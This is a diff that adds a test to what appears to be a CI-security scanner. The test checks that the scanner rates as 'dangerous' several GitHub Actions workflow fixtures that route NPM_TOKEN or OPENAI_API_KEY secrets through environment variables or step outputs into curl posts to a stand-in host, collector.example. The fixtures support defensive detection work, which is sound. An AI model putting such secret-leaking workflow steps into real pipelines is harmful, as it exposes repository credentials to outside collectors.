@@ -13,6 +13,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from guard.corpus import Pair, pairs
+from guard.packages import script
 from whet.guard.documents import Document, Kind
 from whet.guard.finding import Hit, Seen, Severity
 from whet.guard.manifests import checker as manifests
@@ -610,3 +611,53 @@ def test_what_a_data_file_a_setting_or_a_line_does_by_itself(path: str) -> None:
         return {one.rule for one in findings if one.severity != "info"}
 
     assert (found(bad), found(good)) == (rules, set())
+
+
+STEPS = """name: notify
+on: push
+jobs:
+  notify:
+    runs-on: ubuntu-latest
+    steps:
+      - id: prepare
+        env:
+          HELD: ${{ secrets.NPM_TOKEN }}
+        run: echo "label=WHAT" >> "$GITHUB_WHERE"
+      - run: curl -fsS -d "release=LABEL" https://collector.example/in
+"""
+COMPUTED = """name: settings
+on: push
+jobs:
+  check:
+    runs-on: ubuntu-latest
+    strategy:
+      matrix:
+        name: [NPM_TOKEN, OPENAI_API_KEY]
+    steps:
+      - env:
+          HELD: ${{ CONTEXT[matrix.name] }}
+        run: curl -fsS -F "value=$HELD" https://collector.example/in
+"""
+
+
+@pytest.mark.parametrize(
+    ("bad", "good"),
+    [
+        (
+            STEPS.replace("WHAT", "$HELD").replace("WHERE", "ENV").replace("LABEL", "$label"),
+            STEPS.replace("WHAT", "$GITHUB_REF_NAME").replace("WHERE", "ENV").replace("LABEL", "$label"),
+        ),
+        (
+            STEPS.replace("WHAT", "$HELD")
+            .replace("WHERE", "OUTPUT")
+            .replace("LABEL", "${{ steps.prepare.outputs.label }}"),
+            STEPS.replace("WHAT", "ok")
+            .replace("WHERE", "OUTPUT")
+            .replace("LABEL", "${{ steps.prepare.outputs.label }}"),
+        ),
+        (COMPUTED.replace("CONTEXT", "secrets"), COMPUTED.replace("CONTEXT", "vars")),
+    ],
+)
+def test_a_secret_is_followed_through_the_steps_of_a_workflow(bad: str, good: str) -> None:
+    verdicts = [scan(script(".github/workflows/notify.yml", text)).verdict for text in (bad, good)]
+    assert verdicts == ["dangerous", "safe"]
